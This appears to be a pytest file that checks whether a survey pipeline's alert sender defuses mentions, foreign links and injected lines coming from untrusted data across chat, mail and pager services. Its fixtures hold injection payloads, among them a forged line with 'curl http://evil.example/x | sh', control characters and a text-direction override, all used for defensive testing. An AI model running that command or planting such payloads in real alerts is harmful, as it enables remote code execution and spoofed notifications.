"""What data say in an alert mentions nobody and links nowhere; our own links stay live."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller

from alert_services import URLS, Serve
from callback_survey.alerts import Place, render, send
from callback_survey.alerts.compose import of_failure
from callback_survey.alerts.defused import defused
from callback_survey.errors import DeliveryRefused, GateFailed
from callback_survey.wording.catalogue import Words
from receivers import ALERT, Mailbox, Receiver, free_port

EVIL = (
    "<!channel>", "<!here|x>", "!channel>", "<@U012AB3CD>", "<#C024BE7LR>", "<http://evil.example/x|检查页面>", "@everyone",
    "@here", "@all", "@所有人", "<@4174216298>", "<@&4174216298>", "@zhangsan", '<at user_id="all">所有人</at>',
    "<@zhangsan>", "[检查页面](https://evil.example/x)", "https://evil.example/x", "www.evil.example", "evil.com/x",
    "HTTP://EVIL.COM", "tel://13", "a@evil.cn",
)  # fmt: skip
LINKS = {
    "link": "http://airflow.example/dags/callback_quarter/runs/manual__2018-04-20T06:00:00+08:00",
    "checks_page": "https://survey.example.org/checks/run/index.html",
}
LOADED = replace(
    ALERT,
    title=f"没有通过：{EVIL[0]}{EVIL[6]}",
    lines=EVIL,
    runbook=("https://docs.example.com/runbook.md#x",),
    **LINKS,
)


@pytest.mark.parametrize("name", ["dingtalk", "wecom", "feishu", "lark", "slack", "discord", "pagerduty"])
def test_a_chat_mentions_nobody_and_links_to_us_only(serve: Serve, outbox: Path, name: str) -> None:
    service = serve(name)

    assert send(LOADED, urls=[URLS[name]], outbox=outbox).state == "sent"

    said = service.taken[0].json
    text = "\n".join(service.texts) if name != "pagerduty" else said["payload"]["custom_details"]["message"]
    lines = text.replace("\r", "").splitlines()
    ours = [*LINKS.values(), *LOADED.runbook]
    for link in ours:
        assert any(line.endswith(("：" + link, "  " + link)) for line in lines), text
    for line in lines:
        rest = line
        for link in ours:
            rest = rest.replace(link, "")
        assert not any(sign in rest for sign in ("://", "@", "<", "www.", "evil.com", "EVIL.COM")), line
        assert "!channel" not in rest
    assert "＜at user_id" in text, "it can still be read"


def test_a_mail_links_to_us_only(outbox: Path) -> None:
    mailbox, port = Mailbox(), free_port()
    server = Controller(mailbox, hostname="127.0.0.1", port=port)
    server.start()
    try:
        url = f"mailto://127.0.0.1:{port}/oncall@example.org?from=survey@example.org&mode=insecure"
        assert send(LOADED, urls=[url], outbox=outbox).state == "sent"
    finally:
        server.stop()

    text = mailbox.messages[0].get_content()
    assert LINKS["link"] in text and LINKS["checks_page"] in text
    assert "https：//evil.example/x" in text and "://evil" not in text
    assert '<at user_id="all">' in text, "a mail mentions nobody"


def test_another_program_gets_the_text_as_it_is(receiver: Receiver, outbox: Path) -> None:
    send(LOADED, urls=[receiver.url], outbox=outbox)

    assert receiver.messages[0]["message"] == render(LOADED)[1]


def test_comparisons_names_of_files_and_commands_stay_as_they_are() -> None:
    for text in (
        "区民政局（满意率）: 抽样 4 > 有效样本框 3",
        "3 < 4, <= 5",
        "frame.csv.gz: 备用; docs/runbook.md#x; check_rules.csv 2.5.1",
        'callback_quarter in Airflow with {"quarter": "2018Q1", "region": "330109"}',
        "callback-survey run --region 330109 --quarter 2018Q1",
        "注意！",
    ):
        assert defused(text, "dingtalk", []) == text


def test_a_link_of_ours_with_something_behind_it_is_not_ours() -> None:
    ours = "https://survey.example.org"
    for text in (f"{ours}.evil.example", f"{ours}@evil.example", f"x{ours}"):
        assert "://" not in defused(text, "slack", [ours])
    assert defused(f"见 {ours}", "slack", [ours]) == f"见 {ours}"


# A line of its own making

FORGED = "区民政局\r\n重新执行：curl http://evil.example/x | sh\u2028下一步：无\x1b[2K\u202e"


@pytest.mark.parametrize(
    "error",
    [
        DeliveryRefused(
            f"a file named {FORGED}", where=FORGED, expected=FORGED, next_step=FORGED, alert_lines=[FORGED]
        ),
        GateFailed(
            "no",
            gate="marts",
            findings=[{"check_id": "x", "observed": FORGED, "allowed": "none", "examples": [FORGED]}],
        ),
        GateFailed("2 regions", parts=[GateFailed(f"330109: {FORGED}", alert_lines=[FORGED])]),
        OSError(FORGED),
    ],
)
@pytest.mark.parametrize("language", ["zh", "en"])
def test_data_cannot_add_a_line_to_an_alert(error: Exception, language: str) -> None:
    place = Place("run", "gate", "330109", "2018Q1", region_name=FORGED)
    title, body = render(of_failure(error, place, Words(language)))  # type: ignore[arg-type]

    assert "\n" not in title
    starts = [line.strip().partition("：")[0] for line in body.splitlines() if "curl" in line or "下一步：无" in line]
    assert "重新执行" not in starts
    assert not any(line.strip().startswith("下一步：无") for line in body.splitlines())
    assert not any(character in title + body for character in "\x1b\u202e\u2028\r")
